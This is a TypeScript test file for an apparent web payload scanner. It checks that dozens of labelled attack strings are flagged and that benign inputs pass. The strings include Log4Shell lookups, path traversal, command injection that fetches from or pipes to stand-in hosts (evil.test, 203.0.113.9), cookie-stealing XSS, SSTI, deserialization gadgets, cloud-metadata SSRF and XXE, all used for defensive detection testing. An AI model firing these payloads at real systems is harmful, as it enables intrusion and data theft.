import { expect, test } from 'vitest'
import { fakeHead } from '../../../test/payload/fake-head.ts'
import { Counters } from '../../telemetry/counters.ts'
import { PAYLOAD_CHECKS } from '../checks.ts'
import type { PayloadCheck, Place } from '../payload.ts'
import { PayloadScanner } from '../scanner.ts'
import { unwrap } from '../unwrap.ts'
import { ssrf } from './addresses.ts'
import { command } from './command.ts'
import { crlf, mail } from './header-lines.ts'
import { jndi } from './jndi.ts'
import { leakListing, leakSecret, leakSource } from './leak-content.ts'
import { leakSqlError, leakStack } from './leak-errors.ts'
import { xss } from './markup.ts'
import { fingerprint, ldap, nosqli, prototype, sessionFixation, xxe } from './structures.ts'
import { code, deserialization, ssti } from './templates.ts'
import { lfi, rfi, traversal } from './traversal.ts'

/** From here on a policy opens an incident about a field nobody knows. */
const CLEAR = 7

function odds(check: PayloadCheck, value: string, place: Place = 'query'): number {
  return check.check(unwrap(value, false), { place, name: 'x', key: 'x', value })[0]?.logOdds ?? 0
}

function named(cases: readonly (readonly [PayloadCheck, string])[]): [string, string, PayloadCheck][] {
  return cases.map(([check, value]) => [check.class, value, check])
}

const ATTACKS: readonly (readonly [PayloadCheck, string])[] = [
  [jndi, '${jndi:ldap://evil.test/a}'],
  [jndi, '${${lower:j}ndi:${lower:l}dap://evil.test/a}'],
  [jndi, '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.test/a}'],
  [jndi, '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.test/a}'],
  [traversal, '../../../../etc/passwd'],
  [traversal, '..%2f..%2f..%2fetc%2fpasswd'],
  [traversal, '..%252f..%252fetc/passwd'],
  [traversal, '..\\..\\windows\\win.ini'],
  [traversal, '/static/..%c0%af..%c0%afetc/passwd'],
  [traversal, '....//....//etc/passwd'],
  [traversal, '/app/..;/..;/manager/html/..;/WEB-INF/web.xml'],
  [lfi, '/etc/passwd'],
  [lfi, 'php://filter/convert.base64-encode/resource=index.php'],
  [lfi, 'file:///etc/shadow'],
  [lfi, 'C:\\Windows\\win.ini'],
  [lfi, '/proc/self/environ'],
  [rfi, 'http://evil.test/shell.txt?'],
  [rfi, 'https://evil.test/c99.php'],
  [rfi, '\\\\evil.test\\share\\x'],
  [command, '127.0.0.1; cat /etc/passwd'],
  [command, '127.0.0.1|whoami'],
  [command, 'a && ping -c 10 127.0.0.1'],
  [command, '$(curl http://evil.test/x)'],
  [command, '`id`'],
  [command, ";c'a't${IFS}/etc/passwd"],
  [command, 'x;/bin/sh -c id'],
  [command, '() { :;}; /bin/bash -c "id"'],
  [command, 'a\nwget http://evil.test/x'],
  [command, '& ping -n 5 127.0.0.1 &'],
  [command, '|| sleep 10 ||'],
  [xss, '<script>alert(1)</script>'],
  [xss, '<ScRiPt src=//evil.test>'],
  [xss, '"><img src=x onerror=alert(1)>'],
  [xss, '<svg/onload=alert(1)>'],
  [xss, 'javascript:alert(document.cookie)'],
  [xss, "';alert(1)//"],
  [xss, '"-alert(1)-"'],
  [xss, '%3Csvg%20onload%3Dalert%281%29%3E'],
  [xss, '&lt;script&gt;alert(1)&lt;/script&gt;'],
  [xss, '\\u003cscript\\u003ealert(1)'],
  [xss, '<iframe src="javascript:alert(1)">'],
  [xss, '" autofocus onfocus=alert(1) x="'],
  [xss, '<details open ontoggle=confirm`1`>'],
  [ssti, '{{7*7}}'],
  [ssti, '${7*7}'],
  [ssti, '<%= 7*7 %>'],
  [ssti, "{{''.__class__.__mro__[1].__subclasses__()}}"],
  [ssti, '${T(java.lang.Runtime).getRuntime().exec("id")}'],
  [ssti, '<#assign ex="freemarker.template.utility.Execute"?new()>'],
  [code, '<?php system($_GET["c"]); ?>'],
  [code, "__import__('os').system('id')"],
  [code, "require('child_process').exec('id')"],
  [code, '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}'],
  [code, 'class.module.classLoader.resources.context.parent'],
  [deserialization, 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'],
  [deserialization, 'O:8:"stdClass":1:{s:1:"a";i:1;}'],
  [deserialization, '{"@type":"com.sun.rowset.JdbcRowSetImpl"}'],
  [deserialization, '!!python/object/apply:os.system ["id"]'],
  [ssrf, 'http://169.254.169.254/latest/meta-data/'],
  [ssrf, 'http://2852039166/'],
  [ssrf, 'http://0xa9.0xfe.0xa9.0xfe/'],
  [ssrf, 'http://0251.0376.0251.0376/'],
  [ssrf, 'http://[::ffff:169.254.169.254]/'],
  [ssrf, 'http://127.0.0.1:8080/admin'],
  [ssrf, 'http://127.1/'],
  [ssrf, 'http://localhost:6379/'],
  [ssrf, 'gopher://10.0.0.1:6379/_INFO'],
  [ssrf, 'http://good.test@169.254.169.254/'],
  [ssrf, 'http://10.0.0.7/admin'],
  [ssrf, 'http://metadata.google.internal/computeMetadata/v1/'],
  [ssrf, 'http://a.127.0.0.1.nip.io/'],
  [xxe, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
  [xxe, '<!DOCTYPE r [<!ENTITY a "&b;&b;&b;">]>'],
  [nosqli, '{"$ne": null}'],
  [nosqli, "' || 'a'=='a"],
  [nosqli, "'; return true; var x='"],
  [ldap, '*)(uid=*))(|(uid=*'],
  [ldap, 'admin)(&)'],
  [ldap, '*)(objectClass=*)'],
  [mail, 'a@b.test\nBcc: victim@c.test'],
  [mail, 'x%0aSubject: 190'],
  [sessionFixation, 'https://shop.test/login;jsessionid=A5BC99'],
  [command, 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'],
  [command, 'echo x | nc 203.0.113.9 4444'],
  [command, 'report.pdf | grep -v tmp'],
  [crlf, 'x\r\nSet-Cookie: a=b'],
  [crlf, '%0d%0aLocation: //evil.test'],
  [prototype, '{"__proto__": {"admin": true}}'],
]

test.each(named(ATTACKS))('%# attack: %s %s', (_, value, check) => {
  expect(odds(check, value)).toBeGreaterThanOrEqual(CLEAR)
})

const scanner = new PayloadScanner(PAYLOAD_CHECKS, new Counters())

test.each(named(ATTACKS))('%# the literals let it through to its check: %s %s', (_, value, check) => {
  const target = `/search?q=${encodeURIComponent(value)}`
  expect(scanner.suspects(Buffer.from(target), 0, target.length)).toBe(true)
  const found = scanner.request(fakeHead('GET', target), '')
  expect(found.map((finding) => finding.class)).toContain(check.class)
})

test.each([
  '/v1/orders/1042?expand=items&page=3&sort=created_at&filter=status%3Aopen',
  '/search?q=the+quick+brown+fox+and+the+lazy+dog+or+something',
  '/v1/users/550e8400-e29b-41d4-a716-446655440000?from=2026-11-21T20%3A00%3A00Z&fields=id,name,email',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
  'application/json, text/plain, */*',
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1XzQ4IiwiZXhwIjoxNzAwMDAwMDAwfQ.c2lnbmF0dXJl',
  '{"id":1042,"name":"Anna Schmidt","total":10.5,"items":[{"sku":"A-17","selected":true}],"note":"please ring twice"}',
])('ordinary bytes cost one pass and no more: %s', (text) => {
  expect(scanner.suspects(Buffer.from(text), 0, text.length)).toBe(false)
})

const BENIGN: readonly (readonly [PayloadCheck, string])[] = [
  [jndi, 'price is ${amount}'],
  [jndi, '${user.name}'],
  [traversal, 'see ../README.md for more'],
  [traversal, 'wait... what/..?'],
  [traversal, './a/b'],
  [lfi, 'the etc/ folder of the house'],
  [lfi, 'C:\\Users\\anna\\Pictures\\cat.png'],
  [rfi, 'https://example.com/products/42?color=red'],
  [rfi, 'https://cdn.example.com/a.png'],
  [command, 'fish; chips & peas'],
  [command, 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0'],
  [command, 'a | b | c'],
  [command, 'Find more; sort by date; type to search'],
  [command, 'Smith & Sons'],
  [command, 'use `id` as the key'],
  [command, 'text/html;q=0.8'],
  [command, 'R&D; test it'],
  [command, 'one\ndate: tomorrow\nhost: me'],
  [xss, 'a < b and c > d'],
  [xss, 'I <3 you'],
  [xss, 'JavaScript: The Good Parts'],
  [xss, '<p>Hello <b>world</b></p>'],
  [xss, 'how to use onclick = in html?'],
  [xss, 'if (a<b) alert the team'],
  [xss, 'x="1" y="2"'],
  [ssti, 'Dear {{name}}, welcome'],
  [ssti, '${total} EUR'],
  [ssti, 'use {{ user.name | upper }}'],
  [code, 'the system (see below) works'],
  [code, 'evaluate(this)'],
  [deserialization, 'a:1'],
  [ssrf, 'https://example.com/image.png'],
  [ssrf, '10.0.0.7'],
  [ssrf, '//cdn.example.com/x.js'],
  [xxe, '<!DOCTYPE html>'],
  [nosqli, 'costs $in total'],
  [nosqli, 'a || b'],
  [ldap, 'f(x)(y)'],
  [ldap, 'a (b) and (c|d)'],
  [mail, 'To: be or not'],
  [mail, 'dear all\nSubject: 190 pages'],
  [sessionFixation, 'https://shop.test/orders;jsessionid=A5BC99'],
  [command, 'echo "$HOME" | grep -v tmp && ls -la ../notes'],
  [command, 'ps aux | grep node'],
  [command, 'git pull && npm ci; ls -la'],
  [command, 'curl -fsSL https://get.tool.test/install | sh'],
  [xss, '<b>bold</b> is not <script> but I wrote about <script> tags'],
  [crlf, 'line one\nline two'],
  [prototype, 'the prototype of the constructor'],
]

test.each(named(BENIGN))('%# benign: %s %s', (_, value, check) => {
  expect(odds(check, value)).toBeLessThan(CLEAR)
})

test('a command line is one that somebody wrote only where people write', () => {
  const line = 'ls -la | grep -v tmp'
  expect(odds(command, line, 'json')).toBeLessThan(CLEAR)
  expect(odds(command, encodeURIComponent(encodeURIComponent(line)), 'json')).toBeGreaterThanOrEqual(CLEAR)
  expect(odds(command, `ls -la | c'a't notes.txt`, 'json')).toBeGreaterThanOrEqual(CLEAR)
  expect(odds(command, line, 'header')).toBeGreaterThanOrEqual(CLEAR)
})

test('a link to sign in with a session id is what a parameter for the next page holds anyway', () => {
  const value = 'https://shop.test/login;jsessionid=A5BC99'
  const odds = (key: string) =>
    sessionFixation.check(unwrap(value, false), { place: 'query', name: `query:${key}`, key, value })[0]!.logOdds
  expect(odds('q')).toBeGreaterThanOrEqual(8)
  expect(odds('service')).toBeLessThan(CLEAR)
})

test('operators are found in the names of parameters', () => {
  const field = { place: 'query', name: 'query:user[$ne]', key: 'user[$ne]', value: '1' } as const
  expect(nosqli.check(unwrap('1', true), field)[0]?.logOdds).toBeGreaterThanOrEqual(CLEAR)
  const proto = { place: 'query', name: 'query:__proto__[a]', key: '__proto__[a]', value: '1' } as const
  expect(prototype.check(unwrap('1', true), proto)[0]?.logOdds).toBeGreaterThanOrEqual(CLEAR)
})

test('scanners name themselves in the user agent', () => {
  const agent = (value: string) =>
    fingerprint.check(unwrap(value, false), { place: 'header', name: 'header:user-agent', key: '', value })
  expect(agent('sqlmap/1.7.2#stable (https://sqlmap.org)')[0]?.logOdds).toBeGreaterThanOrEqual(CLEAR)
  expect(agent('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36')).toEqual([])
})

const ANSWERS: readonly (readonly [PayloadCheck, string])[] = [
  [leakStack, 'Traceback (most recent call last):\n  File "/app/a.py", line 3, in <module>'],
  [leakStack, 'java.lang.NullPointerException: x\n\tat com.shop.Order.get(Order.java:10)'],
  [leakStack, 'TypeError: x\n    at /srv/app/index.js:10:7\n'],
  [leakStack, '<b>Fatal error</b>: Uncaught in <b>/var/www/a.php</b> on line <b>3</b>'],
  [leakSqlError, 'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server'],
  [leakSqlError, 'ERROR: syntax error at or near "x"'],
  [leakSqlError, 'ORA-00933: SQL command not properly ended'],
  [leakSource, 'root:x:0:0:root:/root:/bin/bash'],
  [leakListing, '<title>Index of /backup</title>'],
  [leakSecret, '-----BEGIN RSA PRIVATE KEY-----'],
  [leakSecret, 'AKIAIOSFODNN7EXAMPLE'],
]

test.each(named(ANSWERS))('%# given away: %s %s', (_, value, check) => {
  expect(odds(check, value, 'response')).toBeGreaterThanOrEqual(CLEAR)
})

test('many documents in one request are one finding, ten are how clients spare themselves round trips', () => {
  const batch = (count: number) =>
    JSON.stringify(Array.from({ length: count }, (_, i) => ({ query: `query Try { login(code: "${i}") { ok } }` })))
  const head = fakeHead('POST', '/graphql', [['Content-Type', 'application/json']])
  const rules = (count: number) => scanner.request(head, batch(count)).map(({ rule }) => rule)
  const odds = (count: number) => scanner.request(head, batch(count))[0]!.logOdds
  expect(odds(12)).toBeLessThan(6.9)
  expect(odds(60)).toBeGreaterThan(6.9)
  expect(rules(10)).toEqual([])
  expect(rules(60)).toContain('graphql.documents')
  expect(rules(10)).toEqual([])
})

test('a document deeper than clients usually ask is odd, one deeper than any asks is an attack', () => {
  const deep = (depth: number) => `query Deep { ${'friends { '.repeat(depth - 1)}id${' }'.repeat(depth - 1)} }`
  const head = fakeHead('POST', '/graphql', [['Content-Type', 'application/json']])
  const odds = (depth: number) => scanner.request(head, JSON.stringify({ query: deep(depth) }))[0]?.logOdds ?? 0
  expect([9, 10, 20, 21].map(odds)).toEqual([0, 5.5, 5.5, 8])
})
